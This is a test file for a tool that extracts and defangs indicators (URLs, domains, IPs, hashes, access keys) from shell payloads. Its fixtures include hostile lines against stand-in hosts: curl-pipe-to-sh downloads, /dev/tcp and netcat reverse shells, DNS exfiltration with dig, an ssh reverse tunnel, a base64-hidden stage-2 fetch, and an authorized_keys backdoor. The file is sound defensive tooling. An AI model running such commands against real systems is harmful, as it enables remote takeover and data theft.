import { describe, expect, it } from 'vitest';
import { readTerms } from './payload-terms';

const terms = (text: string) => readTerms(new TextEncoder().encode(`#!/bin/bash\n${text}\n`));
const found = (text: string) => terms(text).map(({ kind, value }) => `${kind} ${value}`);

describe('what a payload names', () => {
  it.each<[string, string[]]>([
    [
      'curl -s http://files.badhost.net/a.sh | sh',
      ['url http://files.badhost.net/a.sh', 'domain files.badhost.net'],
    ],
    [
      'curl https://HOST.Example.ORG:8443/x',
      ['url https://host.example.org:8443/x', 'domain host.example.org'],
    ],
    ['bash -i >& /dev/tcp/203.0.113.7/443 0>&1', ['address 203.0.113.7']],
    ['exec 5<>/dev/tcp/c2.badhost.net/443', ['domain c2.badhost.net']],
    ['nc 203.0.113.7 9001 -e /bin/sh', ['address 203.0.113.7']],
    ['ssh -R 2222:localhost:22 tunnel@relay.badhost.net', ['domain relay.badhost.net']],
    ['dig $(hostname).q.badhost.net', ['domain q.badhost.net']],
    ['curl http://[2001:db8::7]/a', ['url http://[2001:db8::7]/a', 'address 2001:db8::7']],
    ['echo 10.1.2.3 db >> /etc/hosts', ['address 10.1.2.3']],
    ['echo "d41d8cd98f00b204e9800998ecf8427e  a" | md5sum -c', ['hash d41d8cd98f00b204e9800998ecf8427e']],
    ['export AWS_ACCESS_KEY_ID=AKIAXYZ0123456789ABC', ['access-key AKIAXYZ0123456789ABC']],
    [
      'curl https://raw.githubusercontent.com/someone/tool/main/x.sh',
      ['url https://raw.githubusercontent.com/someone/tool/main/x.sh'],
    ],
    [
      'curl https://loot-4711.s3.eu-west-1.amazonaws.com/a',
      ['url https://loot-4711.s3.eu-west-1.amazonaws.com/a', 'domain loot-4711.s3.eu-west-1.amazonaws.com'],
    ],
    ['wget http://u:pa55word@badhost.net/x', ['url http://badhost.net/x', 'domain badhost.net']],
  ])('%s', (text, expected) => {
    expect(found(text).sort()).toEqual([...expected].sort());
  });

  it.each([
    'curl http://169.254.169.254/latest/meta-data/instance-id http://127.0.0.1:8080/x http://localhost/y',
    'curl https://ec2.eu-west-1.amazonaws.com/ https://get.docker.com/ http://archive.ubuntu.com/ubuntu/x',
    'yum install -y https://s3.amazonaws.com/ec2-downloads-windows/SSMAgent/latest/x.rpm',
    'curl -o install.sh backup.tar.gz app.py --config nginx.conf v1.2.3',
    'pip install app-1.2.3.4.tar.gz requests==2.31.0',
    'ip route add 10.0.0.0/8 via eth0; listen 0.0.0.0:80',
    'curl "https://$HOST/x" https://${BUCKET}.badhost.net/x',
    'export API_KEY=0123456789abcdef0123456789abcdef',
    'sudo systemctl restart nginx.service amazon-ssm-agent.service',
    'docker pull web@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a0',
  ])('nothing in: %s', (text) => {
    expect(found(text)).toEqual([]);
  });

  it('has each once, with the lines it stands on, in their order', () => {
    expect(
      terms('curl http://a.badhost.net/1\nls\ncurl http://b.badhost.net/2 http://a.badhost.net/1'),
    ).toMatchObject([
      {
        value: 'http://a.badhost.net/1',
        at: [
          { part: '1', line: 2 },
          { part: '1', line: 4 },
        ],
      },
      { value: 'a.badhost.net', at: [{ line: 2 }, { line: 4 }] },
      { value: 'http://b.badhost.net/2', at: [{ line: 4 }] },
      { value: 'b.badhost.net', at: [{ line: 4 }] },
    ]);
  });

  it('is also found in encoded text, on the line where that begins', () => {
    const hidden = Buffer.from('curl http://203.0.113.9/stage2 | sh').toString('base64');
    expect(terms(`ls\necho ${hidden} | base64 -d | sh`)).toContainEqual(
      expect.objectContaining({ kind: 'address', value: '203.0.113.9', at: [{ part: '1', line: 3 }] }),
    );
  });

  it('is shown so that nothing becomes a link and no credential is seen', () => {
    const key = `ssh-ed25519 ${Buffer.from('\0\0\0\x0bssh-ed25519\0\0\0 0123456789abcdef0123456789abcdef').toString('base64')}`;
    const all = terms(
      `curl http://files.badhost.net/a?token=Zx81Qp0LmN45ttYb9w\necho ${key} ops@laptop >> ~/.ssh/authorized_keys\nexport A=AKIAXYZ0123456789ABC\nping 203.0.113.9 10.0.0.9`,
    );
    const shown = all.map((term) => term.shown).join('\n');
    expect(shown).toMatch(/^ssh-ed25519 SHA256:[\w+/]{43} ops@laptop$/m);
    expect(shown).toContain('files[.]badhost[.]net');
    expect(shown).toContain('203[.]0[.]113[.]9');
    expect(shown).toContain('10[.]0[.]0[.]9 (private)');
    expect(shown).toMatch(/^AKIA…9ABC·[a-f\d]{4}$/m);
    expect(shown).not.toMatch(/http:|AKIAXYZ|Zx81|AAAA/);
    expect(all.filter(({ kind }) => kind === 'url')).toEqual([]);
  });

  it('ends at 200', () => {
    const many = Array.from({ length: 500 }, (_, index) => `curl http://h${index}.badhost.net/x`).join('\n');
    expect(terms(many)).toHaveLength(200);
  });
});
